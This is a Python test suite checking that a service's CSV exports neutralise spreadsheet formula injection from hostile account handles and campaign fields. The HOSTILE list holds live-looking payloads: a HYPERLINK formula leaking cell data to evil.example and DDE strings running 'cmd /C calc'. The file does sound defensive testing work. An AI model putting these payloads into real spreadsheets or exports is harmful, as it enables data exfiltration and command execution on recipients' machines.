"""CSV formula injection: a hostile server whose accounts have handles like ``=HYPERLINK(...)`` is
crawled through the API, then every CSV export (ranking, shortlist, campaign report) is read back as a
spreadsheet would: no text cell may start a formula, and the hostile text is still there, escaped.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from discovery.simulator.serve import RunningSimulator, free_port
from discovery.simulator.server import Answer, Limits, SimulatorApp
from discovery.simulator.world import TOPICS, build_world
from exports.tables import FORMULA_STARTS, NUMBER, csv_text, safe_cell
from tests.conftest import Tenant

pytestmark = pytest.mark.anyio
TAG = TOPICS[0][0]
SEEDS = ("user0", "user1", "user2", "user3")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dcmd|' /C calc'!A0",
]
_USER = re.compile(r"^user(\d+)$")


class HostileSimulator(SimulatorApp):
    """The simulator, except that every account but the seeds carries a formula as its handle."""

    async def handle(self, path: str, query: dict[str, str], headers: dict[str, str], base: str) -> Answer:
        status, body, extra = await super().handle(path, query, headers, base)
        if isinstance(body, bytes):  # pre-rendered JSON
            body = json.loads(body)
        return status, _poison(body), extra


def _poison(value: Any) -> Any:
    if isinstance(value, list):
        return [_poison(v) for v in value]
    if not isinstance(value, dict):
        return value
    out = {k: _poison(v) for k, v in value.items()}
    m = _USER.match(str(out.get("acct", "")))
    if m and out["acct"] not in SEEDS:
        evil = HOSTILE[int(m.group(1)) % len(HOSTILE)]
        out["acct"] = out["username"] = out["display_name"] = evil
    return out


@pytest.fixture
def hostile() -> Iterator[RunningSimulator]:
    import threading
    import time

    import uvicorn

    app = HostileSimulator(build_world(150, seed=31), Limits())
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.01)
    yield RunningSimulator(app, f"http://127.0.0.1:{port}")
    server.should_exit = True
    thread.join(timeout=10)


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a formula character (numbers aside)."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


async def crawl(client: httpx.AsyncClient, org: Tenant, sim: RunningSimulator) -> None:
    body = {
        "platform": "mastodon",
        "base_url": sim.url,
        "seeds": list(SEEDS),
        "hashtags": [TAG],
        "max_accounts": 80,
        "max_depth": 1,
        "max_followers": 60,
        "max_following": 30,
    }
    r = await client.post("/v1/crawls", json=body, headers=org.headers())
    assert r.status_code == 202, r.text
    for _ in range(600):
        status = (await client.get(f"/v1/crawls/{r.json()['id']}", headers=org.headers())).json()["status"]
        if status not in ("queued", "running"):
            assert status == "done"
            return
        await asyncio.sleep(0.1)
    raise AssertionError("crawl did not finish")


class TestEveryCsvExport:
    async def test_hostile_handles_are_escaped_in_ranking_shortlist_and_report(
        self, client: httpx.AsyncClient, tenant: Tenant, hostile: RunningSimulator
    ) -> None:
        await crawl(client, tenant, hostile)
        h = tenant.headers()
        ranking_req = {"platform": "mastodon", "topic": {"hashtags": [TAG]}, "limit": 200}
        ranking = (await client.post("/v1/rankings", json=ranking_req, headers=h)).json()
        evil = [c for c in ranking["creators"] if c["handle"] in HOSTILE]
        assert len({c["handle"] for c in evil}) >= 4, "the hostile server's handles must reach the ranking"

        exports = {}
        r = await client.post("/v1/rankings", params={"format": "csv"}, json=ranking_req, headers=h)
        exports["ranking"] = r.text
        shortlist = await client.post(
            "/v1/shortlists", json={"ranking": ranking_req, "budget": "1000000", "k": 20, "candidates": 200}, headers=h
        )
        assert shortlist.status_code == 201, shortlist.text
        exports["shortlist"] = (
            await client.get(f"/v1/shortlists/{shortlist.json()['id']}", params={"format": "csv"}, headers=h)
        ).text
        campaign = (
            await client.post(
                "/v1/campaigns",
                headers=h,
                json={"name": "=cmd|' /C calc'!A0", "currency": "EUR", "destination_url": "https://shop.example/"},
            )
        ).json()
        for c, code in zip(evil[:3], ["-SUMMER10", "-2-3", "OK_CODE"], strict=True):
            r = await client.post(
                f"/v1/campaigns/{campaign['id']}/creators",
                json={"account_id": c["account_id"], "promo_code": code, "fee": "10"},
                headers=h,
            )
            assert r.status_code == 201, r.text
        exports["report"] = (
            await client.get(f"/v1/campaigns/{campaign['id']}/report", params={"format": "csv"}, headers=h)
        ).text

        for name, text in exports.items():
            assert text.count("\n") >= 2, name
            assert formula_cells(text) == [], f"{name} CSV has live formulas"
        cells = {cell for text in exports.values() for row in csv.reader(io.StringIO(text)) for cell in row}
        shown = {e for e in HOSTILE if "'" + e in cells}
        assert len(shown) >= 4  # the handles are kept, as text
        assert {"'-SUMMER10", "'-2-3", "OK_CODE"} <= cells  # promo codes starting with '-' are escaped too


class TestWriter:
    @given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=4), max_size=5))
    def test_no_text_cell_starts_a_formula_and_text_round_trips(self, rows: list[list[str]]) -> None:
        text = csv_text(["a", "b", "c", "d"], rows)
        read = list(csv.reader(io.StringIO(text, newline="")))[1:]
        for got, sent in zip(read, rows, strict=False):
            for g, s in zip(got, sent, strict=False):
                escaped = s.startswith(FORMULA_STARTS) and not NUMBER.match(s)
                assert not g.startswith(FORMULA_STARTS) or NUMBER.match(g)
                assert g == (("'" + s) if escaped else s)

    def test_numbers_stay_numbers(self) -> None:
        from decimal import Decimal

        assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3 and safe_cell(None) == ""
        # A report's money is text like "-12.50": exactly a number, which a spreadsheet reads as a number.
        assert safe_cell("-12.50") == "-12.50" and safe_cell("+3") == "+3"
        assert safe_cell("-12.50+1") == "'-12.50+1" and safe_cell("-1e5") == "'-1e5" and safe_cell("-") == "'-"

    def test_digest_attachments_use_the_same_writer(self) -> None:
        from outbound.digest import csv_bytes

        text = csv_bytes(["handle", "promo_code", "net"], [[h, "-SUMMER", -5] for h in HOSTILE]).decode()
        assert formula_cells(text) == [] and "'-SUMMER" in text and ",-5" in text
